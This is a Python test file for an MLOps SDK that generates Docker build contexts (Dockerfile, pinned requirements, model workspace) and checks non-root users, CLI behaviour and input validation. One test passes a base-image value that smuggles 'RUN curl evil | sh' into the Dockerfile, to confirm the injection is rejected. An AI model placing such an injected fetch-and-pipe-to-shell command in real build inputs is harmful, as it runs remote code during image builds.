"""Docker build contexts: Dockerfile, pinned requirements, and a self-contained model workspace."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pytest
import sklearn
from click.testing import CliRunner
from sklearn.datasets import load_iris
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression

import mlops_sdk as mlops
from mlops_sdk.cli import cli
from mlops_sdk.container import build_context, copy_version, requirements_text
from mlops_sdk.errors import InvalidValue


@pytest.fixture
def iris_v2(workspace: mlops.Workspace) -> mlops.ModelVersion:
    X, y = load_iris(return_X_y=True, as_frame=True)
    with workspace.experiment("train").start_run() as run:
        run.log_model(LogisticRegression(max_iter=300).fit(X, y), "iris", input_example=X[:5])
        mv = run.log_model(
            RandomForestClassifier(n_estimators=10, random_state=0).fit(X, y),
            "iris",
            input_example=X[:5],
            description="a forest",
        )
    mv.set_alias("production")
    return mv


def _instructions(dockerfile: str) -> list[str]:
    """Dockerfile instructions with continuation lines joined."""
    joined = dockerfile.replace("\\\n", " ")
    return [line.strip() for line in joined.splitlines() if line.strip() and not line.startswith("#")]


def test_context_files(iris_v2: mlops.ModelVersion, tmp_path: Path) -> None:
    ctx = build_context(iris_v2, tmp_path / "ctx")

    assert ctx.image_ref == "iris@2" and ctx.port == 8080
    steps = _instructions(ctx.dockerfile.read_text())
    assert steps[0] == "FROM python:3.11-slim"
    user = next(s for s in steps if s.startswith("USER "))
    assert user.split()[1].split(":")[0] not in ("0", "root")
    assert steps.index(user) > max(i for i, s in enumerate(steps) if s.startswith("RUN "))  # no RUN as root after it
    assert "EXPOSE 8080" in steps
    health = next(s for s in steps if s.startswith("HEALTHCHECK"))
    assert "http://127.0.0.1:8080/health" in health
    cmd = json.loads(steps[-1].removeprefix("CMD "))
    assert cmd == ["mlops", "--workspace", "/app/model", "serve", "iris@2", "--host", "0.0.0.0", "--port", "8080"]
    assert "COPY --chown=10001:10001 model/ ./model/" in steps

    lines = [ln for ln in (ctx.path / "requirements.txt").read_text().splitlines() if ln and not ln.startswith("#")]
    assert lines[0] == f"mlops-sdk=={mlops.__version__}"
    assert f"scikit-learn=={sklearn.__version__}" in lines
    assert all("==" in ln for ln in lines), lines  # everything pinned
    names = [ln.split("==")[0] for ln in lines]
    assert {"skops", "starlette", "uvicorn", "pandas"} <= set(names)
    assert len(names) == len(set(names))
    assert "--extra-index-url" not in (ctx.path / "requirements.txt").read_text()  # no torch here
    assert "model/.mlops/cache" in (ctx.path / ".dockerignore").read_text()
    assert (ctx.path / "model" / "mlops.toml").is_file()


def test_model_workspace_loads_and_predicts_identically_in_a_fresh_process(
    iris_v2: mlops.ModelVersion, tmp_path: Path
) -> None:
    ctx = build_context(iris_v2, tmp_path / "ctx")
    X, _ = load_iris(return_X_y=True, as_frame=True)
    script = textwrap.dedent(
        """
        import json, sys
        import mlops_sdk as mlops
        from sklearn.datasets import load_iris
        ws = mlops.Workspace.open(sys.argv[1])
        mv = ws.model("iris").version(2)
        X, _ = load_iris(return_X_y=True, as_frame=True)
        print(json.dumps({
            "id": mv.id, "version": mv.version, "flavor": mv.flavor, "aliases": mv.aliases,
            "versions": [v.version for v in ws.model("iris").versions()],
            "description": mv.description, "signature": mv.signature.to_dict(),
            "proba": mv.load().predict_proba(X).tolist(), "pred": mv.predict(X).tolist(),
        }))
        """
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("MLOPS_")}
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", script, str(ctx.model_workspace)],
        cwd=elsewhere, env=env, capture_output=True, text=True, timeout=120,
    )
    assert done.returncode == 0, done.stderr
    got = json.loads(done.stdout)
    assert got["id"] == iris_v2.id and got["version"] == 2 and got["versions"] == [2]
    assert got["flavor"] == "sklearn" and got["aliases"] == ["production"]
    assert got["description"] == "a forest"
    assert got["signature"] == iris_v2.signature.to_dict()  # type: ignore[union-attr]
    assert got["pred"] == iris_v2.predict(X).tolist()
    assert np.array_equal(np.array(got["proba"]), iris_v2.load().predict_proba(X))


def test_cli_build_context(iris_v2: mlops.ModelVersion, tmp_path: Path) -> None:
    out = tmp_path / "ctx"
    runner = CliRunner()
    result = runner.invoke(
        cli,
        ["-w", str(iris_v2.workspace.root), "models", "build-context", "iris@production", str(out),
         "--port", "9000", "--base-image", "python:3.12-slim", "--json"],
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["version"] == 2 and data["port"] == 9000 and data["base_image"] == "python:3.12-slim"
    steps = _instructions((out / "Dockerfile").read_text())
    assert steps[0] == "FROM python:3.12-slim" and "EXPOSE 9000" in steps
    assert json.loads(steps[-1].removeprefix("CMD "))[-1] == "9000"

    again = runner.invoke(cli, ["-w", str(iris_v2.workspace.root), "models", "build-context", "iris@2", str(out)])
    assert again.exit_code == 1 and "not empty" in again.output
    forced = runner.invoke(cli, ["-w", str(iris_v2.workspace.root), "models", "build-context", "iris@1", str(out), "--force"])
    assert forced.exit_code == 0, forced.output
    assert '"iris@1"' in (out / "Dockerfile").read_text()
    missing = runner.invoke(cli, ["-w", str(iris_v2.workspace.root), "models", "build-context", "iris@7", str(out)])
    assert missing.exit_code == 1 and "no version 7" in missing.output


def test_bad_input(iris_v2: mlops.ModelVersion, workspace: mlops.Workspace, tmp_path: Path) -> None:
    with pytest.raises(InvalidValue, match="image reference"):
        build_context(iris_v2, tmp_path / "a", base_image="python:3.11\nRUN curl evil | sh")
    with pytest.raises(InvalidValue, match="port"):
        build_context(iris_v2, tmp_path / "b", port=0)
    with pytest.raises(InvalidValue, match="workspace's own files"):
        build_context(iris_v2, workspace.root / ".mlops" / "ctx")
    stranger = tmp_path / "full"
    stranger.mkdir()
    (stranger / "keep.txt").write_text("mine")
    with pytest.raises(InvalidValue, match="not empty"):
        build_context(iris_v2, stranger)
    with pytest.raises(InvalidValue, match=r"keep\.txt"):
        build_context(iris_v2, stranger, force=True)
    assert (stranger / "keep.txt").read_text() == "mine"
    with pytest.raises(InvalidValue, match="wheel"):
        build_context(iris_v2, tmp_path / "c", sdk_requirement=str(tmp_path / "nope.whl"))
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists() and not (tmp_path / "c").exists()

    # the registry refuses to record a copy under a number at or below the latest
    other = mlops.Workspace.open(tmp_path / "other")
    try:
        copy_version(iris_v2, other)
        with pytest.raises(InvalidValue, match="already has version 2"):
            copy_version(iris_v2, other)
    finally:
        other.close()


def test_torch_models_install_the_cpu_build(workspace: mlops.Workspace, tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    X = load_iris().data.astype("float32")
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 3))
    with workspace.experiment("train").start_run() as run:
        mv = run.log_model(net, "iris-net", input_example=X[:5])
    ctx = build_context(mv, tmp_path / "ctx")
    text = (ctx.path / "requirements.txt").read_text()
    assert "--extra-index-url https://download.pytorch.org/whl/cpu" in text
    torch_line = next(ln for ln in text.splitlines() if ln.startswith("torch"))
    assert torch_line.startswith("torch==") and "+" not in torch_line
    assert requirements_text(["torch==2.13.0"]).count("--extra-index-url") == 1


@pytest.mark.slow
@pytest.mark.skipif(
    os.environ.get("MLOPS_TEST_DOCKER") != "1" or shutil.which("docker") is None,
    reason="builds a Docker image: set MLOPS_TEST_DOCKER=1 with a running Docker daemon",
)
def test_docker_build(iris_v2: mlops.ModelVersion, tmp_path: Path) -> None:
    wheels = tmp_path / "dist"
    root = Path(__file__).resolve().parents[1]
    subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "-w", str(wheels), str(root)],
        check=True, capture_output=True, timeout=300,
    )
    wheel = next(wheels.glob("mlops_sdk-*.whl"))
    ctx = build_context(iris_v2, tmp_path / "ctx", sdk_requirement=str(wheel))
    tag = "mlops-sdk-test-iris:2"
    subprocess.run(["docker", "build", "-t", tag, str(ctx.path)], check=True, timeout=1200)
    try:
        user = subprocess.run(
            ["docker", "image", "inspect", "-f", "{{.Config.User}}", tag], check=True, capture_output=True, text=True
        ).stdout.strip()
        assert user == "10001:10001"
        check = subprocess.run(
            ["docker", "run", "--rm", "--entrypoint", "mlops", tag, "--workspace", "/app/model", "models", "ls", "--json"],
            check=True, capture_output=True, text=True, timeout=300,
        )
        assert json.loads(check.stdout)[0]["latest"] == 2
    finally:
        subprocess.run(["docker", "image", "rm", "-f", tag], capture_output=True)
